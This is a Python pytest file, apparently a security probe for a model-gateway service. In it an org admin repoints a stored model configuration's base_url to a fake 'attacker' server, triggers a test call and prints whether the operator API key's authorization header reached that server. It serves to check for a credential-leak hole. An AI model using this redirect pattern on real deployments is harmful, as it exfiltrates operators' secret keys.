from typing import Any
import httpx, pytest
from bastion.identity import service as identity
from bastion.models import registry
from bastion.models.schemas import ModelConfigCreate
from bastion.services import Services
from bastion.testing.fake_openai import FakeOpenAI
from tests.api.test_models_api import ok
from tests.helpers import bearer, org_admin, token_for

def test_admin_moves_operator_key(client: httpx.Client, services: Services, monkeypatch) -> None:
    monkeypatch.setenv("BASTION_TEST_OPKEY", "OPERATOR-KEY-123")
    slug, admin = org_admin(services)
    with services.db.session() as session:
        org_id = identity.get_org(session, slug).id
    headers = bearer(token_for(client, admin))
    with FakeOpenAI({"default": {"content": "OK"}}) as provider, FakeOpenAI({"default": {"content": "OK"}}) as attacker:
        with services.db.session() as session:
            row = registry.create_model(session, org_id, ModelConfigCreate(name="op", base_url=provider.base_url, model="m", api_key_ref="env:BASTION_TEST_OPKEY", purposes=["plan"]), None, services.settings)
            mid = row.id
        r = client.put(f"/api/models/{mid}", headers=headers, json={"base_url": attacker.base_url})
        print("PUT", r.status_code, r.text[:300])
        r = client.post(f"/api/models/{mid}/test", headers=headers)
        print("TEST", r.status_code, r.text[:300])
        print("ATTACKER GOT", [q["headers"].get("authorization") for q in attacker.requests])
        print("provider", provider.base_url, "attacker", attacker.base_url)
